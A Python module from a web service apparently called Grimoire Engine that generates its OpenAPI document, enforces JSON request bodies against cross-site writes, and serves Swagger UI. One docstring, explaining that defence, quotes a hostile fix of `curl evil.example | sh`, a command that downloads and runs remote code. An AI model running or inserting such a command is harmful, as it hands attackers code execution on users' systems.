"""The OpenAPI 3.1 document, generated from the routes and the msgspec Structs they use.

Each API route is an ``ApiRoute`` carrying an ``Operation``: what it takes, and every status it
can answer. The statuses every route of a kind shares (400/413/422 for a JSON body, 422 for query
parameters, 401 for writes, 503 when the database is down) are added here, in one place, so the
document lists every status a route can answer. ``/docs`` serves Swagger UI from the package, so
it works with no internet access.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Collection, Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any, Literal

import msgspec
from starlette.convertors import IntegerConvertor
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import BaseRoute, Route

import grimoire
from grimoire.errors import UnsupportedMediaType
from grimoire.resources import resources
from grimoire.web.auth import authorize
from grimoire.web.ratelimit import limit_rate
from grimoire.web.responses import JSON, JSONResponse
from grimoire.web.schemas import ErrorBody

_REF = "#/components/schemas/{name}"


@dataclass(frozen=True)
class Reply:
    """One documented answer: its description, body type (a Struct or ``list[Struct]``), headers."""

    description: str
    body: Any = None
    content_type: str = JSON
    headers: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Param:
    """A query or header parameter, with its JSON Schema."""

    name: str
    schema: Mapping[str, Any]
    description: str
    required: bool = False
    location: Literal["query", "header"] = "query"


@dataclass(frozen=True)
class Operation:
    """What one route takes and answers."""

    summary: str
    tag: str
    responses: Mapping[int, Reply]
    body: Any = None
    body_content_type: str = JSON
    # Other media types the same body may come as, each with its own schema.
    other_bodies: Mapping[str, Any] = field(default_factory=dict)
    # The handler reads the bytes itself (the webhook): no schema validation, so no 422.
    raw_body: bool = False
    params: tuple[Param, ...] = ()
    # A write: needs API_TOKEN (when set) even if API_PUBLIC_READS opens its group's reads.
    auth: bool = False
    database: bool = True
    description: str = ""


Method = Literal["GET", "POST", "PUT", "PATCH", "DELETE"]
Handler = Callable[[Request], Awaitable[Response]]


class IdConvertor(IntegerConvertor):
    """A database id in a path. Starlette's ``int`` calls ``int()`` on any number of digits:
    past 4,300 Python refuses (a 500). An id longer than 18 digits names nothing, so it becomes
    one that storage finds absent (its 404)."""

    def convert(self, value: str) -> int:
        return int(value) if len(value) <= 18 else 10**18


class ApiRoute(Route):
    """A Starlette route serving one path with one handler and one ``Operation`` per method.

    One route per path (rather than one per method) keeps a 405's ``Allow`` header complete.
    """

    def __init__(
        self, path: str, *, name: str, operations: Mapping[Method, tuple[Handler, Operation]]
    ) -> None:
        self.operations = dict(operations)
        self.group = api_group(path)

        async def dispatch(request: Request) -> Response:
            method = "GET" if request.method == "HEAD" else request.method
            handler, operation = self.operations[method]  # type: ignore[index]
            if self.group is not None:
                await limit_rate(request)
                authorize(request, group=self.group, write=operation.auth)
            if operation.body is not None and not operation.raw_body:
                require_json(request)
            return await handler(request)

        super().__init__(path, dispatch, methods=list(operations), name=name)
        self.param_convertors = {
            key: IdConvertor() if isinstance(convertor, IntegerConvertor) else convertor
            for key, convertor in self.param_convertors.items()
        }


def require_json(request: Request) -> None:
    """Refuse a JSON route's body sent as anything but JSON (415).

    A browser sends ``text/plain``, a form or multipart cross-site without asking (no CORS
    preflight); ``application/json`` it does not. Refusing the others keeps a page on another
    site from writing through a visitor's browser (a spell with pattern ``.*`` and a fix of
    ``curl evil.example | sh``, when API_TOKEN is not set).
    """
    if request.headers.get("content-length") == "0":
        return  # nothing to write: the handler says what is missing
    media_type = request.headers.get("content-type", "").partition(";")[0].strip().lower()
    if media_type != JSON and not (
        media_type.startswith("application/") and media_type.endswith("+json")
    ):
        raise UnsupportedMediaType(
            f"the body must be sent as {JSON}, not {media_type or 'without a Content-Type'}"
        )


def api_group(path: str) -> str | None:
    """Return the /api/* group a path belongs to (``/api/spells/{id}`` → ``spells``), if any."""
    prefix, _, rest = path.lstrip("/").partition("/")
    return rest.partition("/")[0] if prefix == "api" else None


def build_document(
    routes: Iterable[BaseRoute], *, public_reads: Collection[str] = ()
) -> dict[str, Any]:
    """Build the OpenAPI 3.1 document for every ``ApiRoute`` in ``routes``.

    ``public_reads`` are the API_PUBLIC_READS groups: their reads are documented without security.
    """
    api_routes = [route for route in routes if isinstance(route, ApiRoute)]
    types = _referenced_types(api_routes)
    type_schemas, components = msgspec.json.schema_components(types, ref_template=_REF)
    schemas = dict(zip(types, type_schemas, strict=True))
    paths: dict[str, dict[str, Any]] = {}
    for route in api_routes:
        paths[route.path_format] = {
            method.lower(): _operation(
                route,
                handler.__name__,
                operation,
                schemas,
                guarded=_guarded(route, operation, public_reads),
            )
            for method, (handler, operation) in route.operations.items()
        }
    return {
        "openapi": "3.1.0",
        "info": {
            "title": "Grimoire Engine",
            "version": grimoire.__version__,
            "description": "Known errors and their proven fixes, matched against pull requests "
            "and CI logs.",
        },
        "paths": paths,
        "components": {
            "schemas": components,
            "securitySchemes": {"bearer": {"type": "http", "scheme": "bearer"}},
        },
    }


def _guarded(route: ApiRoute, op: Operation, public_reads: Collection[str]) -> bool:
    """Whether API_TOKEN (when set) guards this operation."""
    return route.group is not None and (op.auth or route.group not in public_reads)


def _referenced_types(routes: list[ApiRoute]) -> list[Any]:
    types: list[Any] = [ErrorBody]
    for route in routes:
        for _, op in route.operations.values():
            bodies = (op.body, *op.other_bodies.values())
            for candidate in (*bodies, *(reply.body for reply in op.responses.values())):
                if candidate is not None and candidate not in types:
                    types.append(candidate)
    return types


def _operation(
    route: ApiRoute,
    operation_id: str,
    op: Operation,
    schemas: Mapping[Any, Any],
    *,
    guarded: bool,
) -> dict[str, Any]:
    document: dict[str, Any] = {
        "summary": op.summary,
        "operationId": operation_id,
        "tags": [op.tag],
        "parameters": _path_params(route) + [_param(param) for param in op.params],
        "responses": {
            str(status): _reply(reply, schemas)
            for status, reply in _all_replies(
                op, guarded=guarded, api=route.group is not None
            ).items()
        },
    }
    if op.description:
        document["description"] = op.description
    if op.body is not None:
        content = {op.body_content_type: {"schema": schemas[op.body]}}
        for media_type, body in op.other_bodies.items():
            content[media_type] = {"schema": schemas[body]}
        document["requestBody"] = {"required": True, "content": content}
    if guarded:
        document["security"] = [{"bearer": []}]
    return document


def _all_replies(op: Operation, *, guarded: bool, api: bool) -> dict[int, Reply]:
    replies = dict(op.responses)
    shared: list[tuple[bool, int, str]] = [
        (op.body is not None, 400, "The body is not valid JSON."),
        (op.body is not None, 413, "The body is larger than this route accepts."),
        (
            op.body is not None and not op.raw_body,
            415,
            "The body is not sent as `application/json`.",
        ),
        (
            (op.body is not None and not op.raw_body) or _has_query(op),
            422,
            "A field fails validation; see `errors`.",
        ),
        (guarded, 401, "API_TOKEN is set and the bearer token is missing or wrong."),
        (api, 429, "API_RATE_LIMIT is set and this client is over it; see `Retry-After`."),
        (op.database, 503, "The database is unreachable."),
    ]
    for applies, status, description in shared:
        if applies and status not in replies:
            replies[status] = Reply(description, ErrorBody, headers=_SHARED_HEADERS.get(status, {}))
    return dict(sorted(replies.items()))


_SHARED_HEADERS = {429: {"Retry-After": "Seconds until the client may call again."}}


def _has_query(op: Operation) -> bool:
    return any(param.location == "query" for param in op.params)


def _reply(reply: Reply, schemas: Mapping[Any, Any]) -> dict[str, Any]:
    document: dict[str, Any] = {"description": reply.description}
    if reply.body is not None:
        document["content"] = {reply.content_type: {"schema": schemas[reply.body]}}
    if reply.headers:
        document["headers"] = {
            name: {"description": text, "schema": {"type": "string"}}
            for name, text in reply.headers.items()
        }
    return document


def _path_params(route: ApiRoute) -> list[dict[str, Any]]:
    return [
        {
            "name": name,
            "in": "path",
            "required": True,
            "schema": {"type": "integer", "minimum": 0}
            if isinstance(convertor, IntegerConvertor)
            else {"type": "string", "pattern": "^[^/]+$"},
        }
        for name, convertor in route.param_convertors.items()
    ]


def _param(param: Param) -> dict[str, Any]:
    return {
        "name": param.name,
        "in": param.location,
        "required": param.required,
        "description": param.description,
        "schema": dict(param.schema),
    }


async def openapi_json(request: Request) -> Response:
    """Serve the OpenAPI document (built once per app)."""
    state = request.app.state
    if getattr(state, "openapi", None) is None:
        public_reads = resources(request).settings.api_public_reads
        state.openapi = build_document(request.app.routes, public_reads=public_reads)
    return JSONResponse(state.openapi)


_DOCS_PAGE = """<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Grimoire Engine API</title>
  <link rel="icon" href="/docs/static/favicon-32x32.png">
  <link rel="stylesheet" href="/docs/static/swagger-ui.css">
</head>
<body>
  <div id="swagger-ui"></div>
  <script src="/docs/static/swagger-ui-bundle.js"></script>
  <script>
    window.ui = SwaggerUIBundle({url: "/openapi.json", dom_id: "#swagger-ui", deepLinking: true});
  </script>
</body>
</html>
"""


async def docs_page(request: Request) -> Response:
    """Serve the interactive API page (Swagger UI, assets from the package)."""
    return HTMLResponse(_DOCS_PAGE)
